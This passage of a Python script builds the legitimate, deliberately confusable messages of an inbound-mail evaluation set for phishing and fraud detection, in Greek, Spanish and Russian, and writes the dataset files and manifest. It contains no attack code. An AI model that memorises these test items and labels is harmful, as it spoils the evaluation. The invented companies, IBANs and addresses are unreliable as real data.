    # ------------------------------------------------------------------ 26-el genuine AADE notification
    M(B, 26, 'el', 'Genuine ΑΑΔΕ notification that a new message is in the company\'s myAADE inbox ("Θυρίδα"); tax/debt theme like attack 26, but no links to log in, only the official address to type; windows-1253.',
      ('ΑΑΔΕ', 'noreply@aade.gr'), 'papadopoulos',
      'Ενημέρωση για νέο μήνυμα στη Θυρίδα σας στο myAADE', '2026-03-04 13:20:31 +0200',
      R_host('mailout2.aade.gr', '195.251.23.82'),
      '''Αγαπητέ/ή χρήστη,

Σας ενημερώνουμε ότι υπάρχει νέο μήνυμα στην προσωπική σας θυρίδα (myAADE > Θυρίδα) για τον ΑΦΜ 800447312.

Θέμα: Πράξη διοικητικού προσδιορισμού τελών – ηλεκτρονικό παράβολο

Για την ανάγνωση του μηνύματος εισέλθετε στην εφαρμογή myAADE πληκτρολογώντας τη διεύθυνση www.aade.gr με τους κωδικούς σας στο TAXISnet.

Η ΑΑΔΕ δεν ζητά ποτέ μέσω email κωδικούς πρόσβασης ή στοιχεία τραπεζικών λογαριασμών.

Ανεξάρτητη Αρχή Δημοσίων Εσόδων
Το μήνυμα αυτό δημιουργήθηκε αυτόματα.''', cs='windows-1253', cte='qp', mid_domain='aade.gr')

    # ------------------------------------------------------------------ 27-el genuine customer urgent service (thread)
    hist = '''-----Original Message-----
From: Ελένη Κωνσταντίνου <e.konstantinou@examplegroup.eu>
Sent: Τρίτη, 10 Μαρτίου 2026 4:40 μμ
To: Νίκος Δημητρίου <n.dimitriou@galaktokomiki-vorea.gr>
Subject: RE: Θερμοσυγκολλητική γραμμής γιαουρτιού – βλάβη

Κύριε Δημητρίου,

ο τεχνικός μας είναι αυτή την εβδομάδα σε εγκατάσταση στην Κρήτη. Αν η βλάβη επανεμφανιστεί, στείλτε μας φωτογραφία της οθόνης με τον κωδικό σφάλματος για να δούμε αν μπορούμε να σας βοηθήσουμε εξ αποστάσεως.

Με εκτίμηση,
Ελένη Κωνσταντίνου'''
    M(B, 27, 'el', 'Genuine urgent service escalation from a Greek dairy customer in an existing thread (Outlook quoting): machine down, asks for a technician today and mentions the contractual penalty; urgency and threats, but fully legitimate.',
      ('Νίκος Δημητρίου', 'n.dimitriou@galaktokomiki-vorea.gr'), 'konstantinou',
      'RE: RE: Θερμοσυγκολλητική γραμμής γιαουρτιού – βλάβη – ΕΠΕΙΓΟΝ', '2026-03-12 07:18:55 +0200',
      R_host('mail.galaktokomiki-vorea.gr', '79.129.44.210', client=('[192.168.5.61]', 'ppp079129044210.access.hol.gr', '79.129.44.210')),
      '''Κυρία Κωνσταντίνου καλημέρα,

η βλάβη επανεμφανίστηκε στις 05:30 με το ίδιο σφάλμα (E-217 θερμοκρασία σιαγόνας εκτός ορίων) και η γραμμή 2 είναι σταματημένη. Φωτογραφία της οθόνης και του πίνακα σφαλμάτων στο συνημμένο.

Έχουμε παραγγελία για αλυσίδα σούπερ μάρκετ που πρέπει να φορτωθεί αύριο το πρωί. Σύμφωνα με το συμβόλαιο συντήρησης ο χρόνος απόκρισης είναι 24 ώρες – χρειαζόμαστε τεχνικό σήμερα, αλλιώς θα πρέπει να ενημερώσω τη διοίκηση για τις ρήτρες.

Παρακαλώ ενημερώστε με τηλεφωνικά στο 6944 218 775.

Νίκος Δημητρίου
Υπεύθυνος Συντήρησης
Γαλακτοκομική Βορείου Ελλάδος Α.Ε.
ΒΙΠΕ Σίνδου, Θεσσαλονίκη

%s''' % hist, cs='windows-1253', cte='qp', html=True, cc='papadopoulos',
      in_reply_to='<%s@examplegroup.eu>' % hid('b27', n=20, alpha='0123456789abcdef'), mid_domain='galaktokomiki-vorea.gr',
      atts=[attachment(qr_png('E-217 TEMP JAW OUT OF RANGE L2 05:30'), 'image/png', 'IMG_20260312_0541.png')])

    # ------------------------------------------------------------------ 28-el genuine supplier invoice reminder
    tim = pdf([(13, 'ILEKTROMICHANIKI THESSALONIKIS A.E.'), '12o km Thessalonikis - Kalochoriou, 57009 Kalochori, AFM 094382117', '',
               (12, 'Timologio Polisis - Deltio Apostolis 2026/0231'), 'Pelatis: EXAMPLE GROUP HELLAS, AFM 800447312', '',
               'Ilektrokinitiras 1,5 kW IE3 4P B5   2 tem.   612,00 EUR', 'Inverter 2,2 kW  1 tem.   488,00 EUR', '',
               'Kathari axia 1.100,00   FPA 24% 264,00   Synolo 1.364,00 EUR', '',
               'Trapeza Peiraios  IBAN %s' % fi(IBAN['ilektro']), 'MARK: 400001948127463'], title='TDA 2026/0231')
    M(B, 28, 'el', 'Genuine reminder with invoice from the real Greek electrical supplier (correct domain ilektromichaniki.gr, usual Piraeus Bank IBAN, myDATA MARK number); "overdue invoice" pressure mirrors attack 27.',
      ('Ηλεκτρομηχανική Θεσσαλονίκης – Λογιστήριο', 'logistirio@ilektromichaniki.gr'), 'papadopoulos',
      'Υπενθύμιση εξόφλησης – ΤΔΑ 2026/0231', '2026-03-10 10:02:40 +0200',
      R_host('mail.ilektromichaniki.gr', '62.103.48.19', client=('[192.168.1.15]', 'adsl-62-103-48-1.ath.forthnet.gr', '62.103.48.1')),
      '''Καλημέρα σας,

σας υπενθυμίζουμε ότι το τιμολόγιο ΤΔΑ 2026/0231 (ΜΑΡΚ 400001948127463) ποσού 1.364,00 € έληξε στις 05/03/2026. Σας επισυνάπτουμε αντίγραφο.

Η πληρωμή γίνεται όπως πάντα στον λογαριασμό μας στην Τράπεζα Πειραιώς που αναγράφεται στο τιμολόγιο. Εάν έχει ήδη εξοφληθεί, παρακαλούμε αγνοήστε το μήνυμα.

Με εκτίμηση,
Σοφία Καραγιάννη
Λογιστήριο
Ηλεκτρομηχανική Θεσσαλονίκης Α.Ε.
Τηλ. 2310 751 430''', cs='iso-8859-7', cte='b64', mid_domain='ilektromichaniki.gr',
      atts=[attachment(tim, 'application/pdf', 'TDA_2026_0231.pdf')])

    # ------------------------------------------------------------------ 29-el genuine internal urgent customs payment
    M(B, 29, 'el', 'Genuine internal urgent request (branch manager to accountant via internal relay) to pay customs duties today via the official e-payment code so spare parts are released at Thessaloniki port; looks like attack 28, but internal origin, government payment code, no third-party IBAN.',
      'konstantinou', 'papadopoulos', 'Επείγον: πληρωμή δασμών σήμερα – ανταλλακτικά στο τελωνείο', '2026-03-12 09:47:13 +0200',
      R_int('GRTH-NB0008', '10.50.1.8'),
      '''Γιώργο καλημέρα,

τα ανταλλακτικά για τη Γαλακτοκομική (σιαγόνες και θερμοστοιχεία) είναι στο τελωνείο Θεσσαλονίκης. Ο εκτελωνιστής μας (Παπαθανασίου) έστειλε τη διασάφηση, πρέπει να πληρωθούν σήμερα οι δασμοί και ο ΦΠΑ για να παραληφθούν αύριο στις 8:00 και να φύγει ο τεχνικός για Σίνδο.

Ποσό: 1.218,46 €
Κωδικός ηλεκτρονικής πληρωμής (ΚΗΠ) e-Παράβολο/ICISnet: στο PDF του εκτελωνιστή που σου προώθησα πριν λίγο.

Πληρώνεται μέσω web banking στην ενότητα «Πληρωμές Δημοσίου». Αν έχεις ερωτήσεις πάρε με στο κινητό, είμαι στο αυτοκίνητο.

Ευχαριστώ,
Ελένη''', cte='8bit', mid_domain='examplegroup.eu')

    # ------------------------------------------------------------------ 30-el genuine ACS tracking
    M(B, 30, 'el', 'Genuine ACS Courier tracking notification for an expected spare-parts parcel, with link to the real acscourier.net tracking page; same brand and wording theme as attack 29.',
      ('ACS Courier', 'noreply@acscourier.gr'), 'konstantinou',
      'ACS: Η αποστολή σας 7204512238 θα παραδοθεί σήμερα', '2026-03-13 08:11:40 +0200',
      R_host('mailer.acscourier.gr', '212.205.26.114'),
      '''Αγαπητέ πελάτη,

η αποστολή σας με αριθμό 7204512238 από EXAMPLE GROUP SE (Γερμανία) βρίσκεται σε διανομή και αναμένεται να παραδοθεί σήμερα, 13/03/2026, μεταξύ 10:00 και 14:00.

Παρακολούθηση αποστολής: https://www.acscourier.net/el/track-and-trace?generalCode=7204512238

Δεν απαιτείται καμία πληρωμή για την παράδοση.

ACS Courier
Το μήνυμα δημιουργήθηκε αυτόματα.''', html=True, mid_domain='acscourier.gr')

    # ------------------------------------------------------------------ 31-es genuine DEHú notification
    M(B, 31, 'es', 'Genuine aviso de notificación from the Spanish government\'s DEHú (Dirección Electrónica Habilitada única) that an AEAT notification is available; links to the official dehu.redsara.es, no attachment – same theme as attack 31.',
      ('DEHú – Notificaciones', 'noreply.dehu@correo.gob.es'), 'fernandez',
      'Aviso de puesta a disposición de notificación – Agencia Estatal de Administración Tributaria', '2026-03-06 09:02:11 +0100',
      R_host('smtp01.correo.gob.es', '195.235.92.37'),
      '''Dirección Electrónica Habilitada única (DEHú)

Le informamos que tiene a su disposición una notificación en la Dirección Electrónica Habilitada única.

Titular: EXAMPLE GROUP IBÉRICA S.L. (B98765432)
Organismo emisor: Agencia Estatal de Administración Tributaria
Concepto: Comunicación – Modelo 303
Fecha de puesta a disposición: 06/03/2026

Dispone de 10 días naturales para acceder a su contenido. Para acceder, identifíquese con certificado electrónico o Cl@ve en:
https://dehu.redsara.es

Este aviso no tiene efectos jurídicos; la notificación se entenderá practicada en el momento del acceso a su contenido o transcurrido el plazo.

Por favor, no responda a este correo.''', cs='iso-8859-1', cte='qp', html=True, mid_domain='correo.gob.es')

    # ------------------------------------------------------------------ 32-es genuine supplier invoice
    fac = pdf([(13, 'NEUMATICA LEVANTE S.L.'), 'C/ Ciudad de Sevilla 31, 46988 Paterna (Valencia), CIF B46218873', '',
               (12, 'FACTURA FV26-0298   Fecha: 09/03/2026'), 'Cliente: Example Group Iberica S.L., B98765432', '',
               'Cilindro ISO 15552 D63 C250 magnetico      4 ud.   612,40 EUR', 'Electrovalvula 5/2 G1/4 24VDC               6 ud.   298,20 EUR',
               'Base imponible 910,60   IVA 21% 191,23   Total 1.101,83 EUR', '',
               'Vencimiento: 08/04/2026   Transferencia a %s (CaixaBank)' % fi(IBAN['neumatica'])], title='FV26-0298')
    M(B, 32, 'es', 'Genuine invoice from the real pneumatics supplier (correct domain neumaticalevante.es, usual CaixaBank IBAN with valid control digits) – the company impersonated in attack 32.',
      ('Neumática Levante – Administración', 'administracion@neumaticalevante.es'), 'fernandez',
      'Factura FV26-0298 – Neumática Levante S.L.', '2026-03-09 17:22:09 +0100',
      R_host('smtp.neumaticalevante.es', '217.116.0.88', client=('[192.168.1.12]', '88.red-81-44-207.staticip.rima-tde.net', '81.44.207.88')),
      '''Buenas tardes:

Adjuntamos la factura FV26-0298 correspondiente a vuestro pedido 4500028811 (albarán AV26-0412).

Vencimiento a 30 días por transferencia a la cuenta habitual que figura en la factura.

Un saludo,

Pilar Sanchis
Administración
Neumática Levante S.L.
Tel. 961 340 288''', cte='8bit', mid_domain='neumaticalevante.es',
      atts=[attachment(fac, 'application/pdf', 'FV26-0298.pdf')])

    # ------------------------------------------------------------------ 33-es genuine customer thread, contract renewal urgency
    hist = '''El 3 mar 2026, a las 9:12, Javier Morales Gil <j.morales@examplegroup.eu> escribió:
> Buenos días Iñaki:
>
> Perfecto, reservamos al técnico para el lunes 16. Necesitaríamos que la línea 2 esté parada desde las 7:00
> y que nos enviéis el pedido firmado con el alcance (revisión cabezal de cierre, cambio de rodillos de
> primera y segunda operación y calibración).
>
> Un saludo,
> Javier
>
>> El 2 mar 2026, a las 17:40, Iñaki Otero <i.otero@conservasriadearosa.es> escribió:
>> Hola Javier, ¿podríais venir la segunda quincena de marzo a hacer el preventivo de la cerradora?
>> Antes de la campaña del bonito queremos tenerla a punto.
>> Gracias, Iñaki'''
    M(B, 33, 'es', 'Genuine reply from the real cannery customer (own mail server, normal client IP) in the very thread that attack 34 hijacks: order number in the text, no attachment, asks for a quick written confirmation.',
      ('Iñaki Otero', 'i.otero@conservasriadearosa.es'), 'morales',
      'Re: Mantenimiento preventivo cerradora línea 2', '2026-03-04 08:47:30 +0100',
      R_host('smtp.conservasriadearosa.es', '82.98.134.21', client=('[192.168.1.101]', '77.red-83-56-91.staticip.rima-tde.net', '83.56.91.77')),
      '''Buenos días Javier:

Confirmado el lunes 16, la línea 2 estará parada desde las 6:30. El pedido es el RDA-2026-044; compras os lo manda hoy por el portal de proveedores, como siempre.

Una cosa más: el contrato de mantenimiento vence el 31 de marzo y dirección quiere renovarlo antes de la campaña. ¿Me puedes mandar la oferta de renovación esta semana? Si puede ser con la opción de repuestos en depósito que comentamos en la visita.

Gracias, un saludo,
Iñaki

Iñaki Otero
Jefe de Mantenimiento
Conservas Ría de Arosa S.L.
Tel. 986 512 388

%s''' % hist, cte='qp', html=True, mid_domain='conservasriadearosa.es',
      in_reply_to='<%s@examplegroup.eu>' % hid('a34', n=20, alpha='0123456789abcdef'), extra=[('X-Mailer', 'Apple Mail (2.3826.400.131.1.6)')])

    # ------------------------------------------------------------------ 34-es genuine Google security alert
    M(B, 34, 'es', 'Genuine Google account security alert ("nuevo inicio de sesión") for the Spanish office\'s Google account used for YouTube/marketing, from accounts.google.com via Google MTA, triggered by the employee\'s own new laptop.',
      ('Google', 'no-reply@accounts.google.com'), 'morales',
      'Alerta de seguridad', '2026-03-02 09:15:47 +0000',
      R_google_svc('209.85.220.73', 'mail-sor-f73.google.com'),
      '''Nuevo inicio de sesión en Windows

egiberica.marketing@gmail.com

Hemos detectado un nuevo inicio de sesión en tu cuenta de Google desde un dispositivo Windows. Si has sido tú, no tienes que hacer nada. Si no, te ayudaremos a proteger tu cuenta.

Consultar actividad: https://accounts.google.com/AccountChooser?Email=egiberica.marketing@gmail.com&continue=https://myaccount.google.com/alert/nt/1741000000000?rfn%%3D325%%26rfnc%%3D1%%26eid%%3D%s

También puedes ver la actividad de seguridad en https://myaccount.google.com/notifications

Te hemos enviado este correo electrónico para informarte de cambios importantes en tu cuenta y en los servicios de Google.
© 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA''' % hid('b34', n=18, alpha='0123456789'), html=True, mid_domain='accounts.google.com',
      to_display='egiberica.marketing@gmail.com', cte='qp')

    # ------------------------------------------------------------------ 35-es genuine internal urgent proforma
    pro = pdf([(13, 'EXAMPLE GROUP SE - Ersatzteilvertrieb'), 'Proforma PF-26-01184 / 10.03.2026', '',
               'Kunde: Example Group Iberica S.L. (intercompany) - fuer Frigorificos del Sur', '',
               'Cuchilla transversal TS-650 dentada   2 ud.   1.240,00 EUR', 'Juego juntas camara vacio             1 ud.     386,00 EUR',
               'Envio urgente UPS Express Saver                 92,00 EUR', 'Total 1.718,00 EUR (entrega intracomunitaria exenta)', '',
               'Pago: transferencia a Example Group SE, Commerzbank', 'IBAN %s' % fi(IBAN['example_de'])], title='PF-26-01184')
    M(B, 35, 'es', 'Genuine internal urgent request (service manager to AP Spain via internal relay) to pay an intercompany proforma to HQ today so spare parts ship for a customer whose line is down; payment + urgency + PDF with IBAN, yet the IBAN is the group\'s own.',
      'morales', 'fernandez', 'URGENTE: pago proforma repuestos Frigoríficos del Sur (línea parada)', '2026-03-10 10:26:04 +0100',
      R_int('ESVA-NB0019', '10.60.1.19'),
      '''Lucía, buenos días:

Frigoríficos del Sur tiene la TS-650 parada desde ayer (cuchilla transversal rota). Alemania tiene las piezas en stock, pero el almacén de Gütersloh no libera el envío intercompany hasta que no vea el pago de la proforma, porque nuestra cuenta con ellos está por encima del límite de crédito.

¿Puedes hacer hoy la transferencia de la proforma adjunta (1.718,00 €)? Es la cuenta de siempre de Example Group SE en Commerzbank. Si sale antes de las 12:00, mañana las tenemos aquí y Jorge va a montarlas el jueves.

Lo he hablado con Sabine Krüger en Gütersloh, está en copia.

Gracias,
Javier''', cc='krueger', html=True, mid_domain='examplegroup.eu',
      atts=[attachment(pro, 'application/pdf', 'PF-26-01184.pdf')])

    # ------------------------------------------------------------------ 36-ru genuine Diadoc notification
    M(B, 36, 'ru', 'Genuine Kontur.Diadoc EDI notification of a UPD (universal transfer document) from a known customer, sent from diadoc.kontur.ru infrastructure with a link to diadoc.kontur.ru; the brand imitated by attack 39. KOI8-R.',
      ('Диадок', 'noreply@diadoc.kontur.ru'), 'morozova',
      'Новый документ от ООО "Мясокомбинат Заречный": Акт сверки за 4 квартал 2025', '2026-03-03 11:47:21 +0300',
      R_host('mx-out4.skbkontur.ru', '46.17.203.14'),
      '''Диадок

В ящик ООО "ЭКЗАМПЛ ГРУП РУС" поступил документ

Контрагент: ООО "Мясокомбинат Заречный"
Документ: Акт сверки взаимных расчетов за 4 квартал 2025 г.
Требуется подпись

Посмотреть документ: https://diadoc.kontur.ru/%s/Document/Show?letterId=%s

Настроить уведомления можно в разделе "Профиль" на сайте diadoc.kontur.ru.
АО "ПФ "СКБ Контур"''' % (hid('b36b', n=8, alpha='0123456789abcdef'), hid('b36l', n=8, alpha='0123456789abcdef')),
      cs='koi8-r', cte='b64', html=True, mid_domain='kontur.ru')

    # ------------------------------------------------------------------ 37-ru genuine customer request with spec (windows-1251)
    spec = docx(['Спецификация N 3 к договору поставки N 14/25-ЗМК от 12.05.2025',
                 '1. Нож поперечный зубчатый для TS-650, 2 шт.', '2. Комплект уплотнений вакуумной камеры, 1 шт.',
                 '3. Нагревательный элемент верхнего инструмента 230 В 800 Вт, 4 шт.',
                 'Условия поставки: DAP Московская обл., г. Видное. Срок: 6 недель.'])
    M(B, 37, 'ru', 'Genuine customer mail (Russian meat plant) sending a .docx specification to a supply contract and asking urgently for an invoice and a service visit; DOCX attachment and urgency, but expected business; windows-1251, quoted-printable.',
      ('Сергей Павлов', 's.pavlov@zarechny-mk.ru'), 'volkov',
      'Спецификация N 3 к договору 14/25-ЗМК и выезд инженера', '2026-03-05 14:02:36 +0300',
      R_host('mail.zarechny-mk.ru', '81.177.48.62', client=('[10.10.3.57]', 'unknown', '10.10.3.57')),
      '''Андрей, добрый день!

Направляю спецификацию N 3 к договору поставки на запчасти для термоформера (файл во вложении). Просьба выставить счёт до пятницы, чтобы успеть провести оплату в этом месяце, и подтвердить срок поставки – у нас ножи на исходе.

Отдельно: по линии 3 опять плавает вакуум, прошу согласовать выезд инженера на следующей неделе, лучше во вторник или среду. Пропуск закажем заранее, пришлите ФИО и паспортные данные.

С уважением,
Сергей Павлов
Главный механик
ООО "Мясокомбинат Заречный"
тел. +7 (495) 541-27-16, доб. 214''', cs='windows-1251', cte='qp', cc='morozova', mid_domain='zarechny-mk.ru',
      atts=[attachment(spec, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'Спецификация_3_14-25-ЗМК.docx')])

    # ------------------------------------------------------------------ 38-ru genuine internal: currency payment to HQ
    M(B, 38, 'ru', 'Genuine internal request (general director to chief accountant via internal relay) to make an urgent foreign-currency payment to the German parent for spare parts before a currency-control deadline; payment + urgency + "today", but intercompany contract, bank currency-control procedure, no new details.',
      'sokolov', 'morozova', 'Срочно: валютный платёж в Гютерсло по контракту 01/2019-EG', '2026-03-10 10:05:49 +0300',
      R_int('RUMO-NB0003', '10.70.1.3'),
      '''Ольга Викторовна, доброе утро!

Прошу сегодня подготовить валютный платёж в адрес Example Group SE по контракту 01/2019-EG (поставка запчастей, инвойс EG-INV-26-0417 на 18 730,00 евро). Контракт поставлен на учёт в банке, УНК у Вас есть. Реквизиты получателя – прежние, из паспорта контракта, никаких изменений нет.

Банк просит документы по валютному контролю до 15:00, иначе платёж уйдёт только завтра, а Германия без оплаты не отгружает. Отгрузка нужна для «Заречного», у них стоит линия.

Если будут вопросы от валютного контроля – звоните мне, я в офисе до 18:00.

Д.А. Соколов''', cte='8bit', html=True, mid_domain='examplegroup.eu')

    # ------------------------------------------------------------------ 39-ru genuine change of details, verify by phone (windows-1251)
    M(B, 39, 'ru', 'Genuine notice from the real Russian logistics partner (correct domain tlsz.ru) that its bank details change after a bank reorganisation; account numbers with valid control key, formal letter to follow via Diadoc, and explicit request to confirm by phone with the known contact.',
      ('ООО ТрансЛогистик Северо-Запад', 'buh@tlsz.ru'), 'morozova',
      'Информационное письмо об изменении реквизитов с 01.04.2026', '2026-03-02 16:20:12 +0300',
      R_host('mail.tlsz.ru', '212.48.136.17', client=('[192.168.0.23]', 'unknown', '212.48.136.1')),
      '''Уважаемые партнёры!

Сообщаем, что в связи с реорганизацией обслуживающего банка с 01.04.2026 изменятся банковские реквизиты ООО «ТрансЛогистик Северо-Запад»:

Р/с %s
Банк: ПАО «Банк «Санкт-Петербург»
К/с %s
БИК %s

Банк не меняется; в связи с переводом обслуживания из филиала в головной офис меняются номер расчётного счёта, корреспондентский счёт и БИК. До 01.04.2026 просим производить оплату по действующим реквизитам.

Официальное письмо с подписью генерального директора направлено Вам через Диадок. Просим перед внесением изменений подтвердить их по телефону с Вашим менеджером, номер которого указан в договоре. По телефонам, указанным в письмах, реквизиты не подтверждайте.

С уважением,
Главный бухгалтер
ООО «ТрансЛогистик Северо-Запад»
Н.А. Гусева''' % (RU['tl_acc'], RU['tl_ks'], RU['tl_bik']), cs='windows-1251', cte='b64', mid_domain='tlsz.ru')

    # ------------------------------------------------------------------ 40-ru Agroprodmash newsletter (KOI8-R)
    base = 'https://news.agroprodmash-expo.ru/go/%s' % hid('b40', n=16, alpha=B62)
    M(B, 40, 'ru', 'Genuine trade-fair newsletter (Агропродмаш, Expocentre Moscow) the director subscribed to; bulk marketing with tracked links and unsubscribe, KOI8-R quoted-printable.',
      ('Агропродмаш', 'news@agroprodmash-expo.ru'), 'sokolov',
      'Агропродмаш-2026: старт регистрации посетителей и деловая программа', '2026-03-11 12:00:00 +0300',
      R_host('mail.expocentr.ru', '195.16.44.205'),
      '''Агропродмаш-2026
Международная выставка оборудования, технологий, сырья и ингредиентов для пищевой и перерабатывающей промышленности
ЦВК "Экспоцентр", Москва

Уважаемый Дмитрий Андреевич!

Открыта регистрация посетителей выставки "Агропродмаш-2026". В деловой программе: сессии по упаковке мясной и молочной продукции, сервису импортного оборудования и локализации запчастей.

Получить электронный билет: %s-t
Деловая программа: %s-p

Вы получили это письмо, так как подписаны на новости выставки. Отписаться: %s-u''' % (base, base, base),
      cs='koi8-r', cte='qp', html=True, extra=[('List-Unsubscribe', '<%s-u>' % base), ('Precedence', 'bulk')], mid_domain='expocentr.ru')


# =========================================================================== output
COMPANY = '''**Example Group SE** — mid-sized European manufacturer of industrial food-processing and packaging machines
(tray sealers, thermoformers, flow-wrappers, vacuum packers, slicing lines; spare parts and service contracts). About 700 mailboxes.

* Domains: `example.com` (HQ Germany) and `examplegroup.eu` (subsidiaries). Inbound MX: `mx01.example.com`;
  internal mail is relayed by `mail-int01.example.com [10.20.0.25]`. Microsoft 365 tenant.
* HQ and main plant: Gütersloh, Germany (Example Group SE).
* Subsidiaries: Example Group Italia S.r.l. (Parma), Example Group Polska Sp. z o.o. (plant Wrocław),
  Example Group Hellas (Thessaloniki), Example Group Ibérica S.L. (Valencia), Example Group UK Ltd (Milton Keynes),
  ООО «Экзампл Груп Рус» (Moscow; service and spare parts, export-controlled).
* Regular correspondents: Lieferant GmbH, Bielefeld (parts supplier: s.maier@ / rechnungen@lieferant-gmbh.de);
  Ferretti Trasporti S.r.l., Reggio Emilia (haulier: c.colombo@ / amministrazione@ferretti-trasporti.it);
  Partner-Logistik Sp. z o.o. (logistics: t.zielinski@ / ksiegowosc@partner-logistik.pl).
  Further invented partners: Northfield Foods Ltd (UK customer, northfieldfoods.co.uk), Midland Co-Pack (midlandcopack.co.uk),
  Hartley & Finch LLP (customer's auditors), Hafen-Zollagentur Hamburg (customs broker, zollagentur-hh.de),
  Motoriduttori Brambilla (IT supplier), Ηλεκτρομηχανική Θεσσαλονίκης (GR supplier, ilektromichaniki.gr),
  Γαλακτοκομική Βορείου Ελλάδος (GR customer), Neumática Levante (ES supplier, neumaticalevante.es),
  Conservas Ría de Arosa (ES customer), Frigoríficos del Sur (ES customer), ООО «Мясокомбинат Заречный» (RU customer),
  ООО «ТрансЛогистик Северо-Запад» (RU logistics, tlsz.ru).
* All IBANs in the set have valid ISO 13616 check digits (computed in build.py); Spanish, Italian and Polish national
  check digits and Russian account control keys are computed as well. Attachments with "malware" contain inert placeholders.
'''

def main():
    attacks()
    business()
    for kind in ('attack', 'business'):
        d = os.path.join(ROOT, kind)
        os.makedirs(d, exist_ok=True)
        for f in os.listdir(d):
            if f.endswith('.eml'):
                os.remove(os.path.join(d, f))
    seen = set()
    for kind, nn, lang, desc, data in MSGS:
        key = (kind, nn)
        assert key not in seen, key
        seen.add(key)
        assert len(data) < 200 * 1024, (key, len(data))
        with open(os.path.join(ROOT, kind, '%02d-%s.eml' % (nn, lang)), 'wb') as fh:
            fh.write(data)
    with open(os.path.join(ROOT, 'staff.txt'), 'w', encoding='utf-8') as fh:
        for k, n, a, r, s in STAFF:
            fh.write('%s=%s\n' % (n, a))
    L = ['# Example Group – inbound mail evaluation set', '', '## Company', '', COMPANY, '## Staff', '',
         '| Name | Address | Role | Site |', '|---|---|---|---|']
    for k, n, a, r, s in STAFF:
        L.append('| %s | %s | %s | %s |' % (n, a, r, s))
    L += ['', 'Shared mailbox: rechnungseingang@example.com (invoice intake, DE).', '']
    for kind, title in (('attack', 'Attack messages (malicious)'), ('business', 'Business messages (legitimate, hard)')):
        L += ['## ' + title, '']
        for k2, nn, lang, desc, data in sorted((m for m in MSGS if m[0] == kind), key=lambda m: m[1]):
            L.append('* `%s/%02d-%s.eml` — %s' % (kind, nn, lang, desc))
        L.append('')
    with open(os.path.join(ROOT, 'MANIFEST.md'), 'w', encoding='utf-8') as fh:
        fh.write('\n'.join(L))


if __name__ == '__main__':
    main()
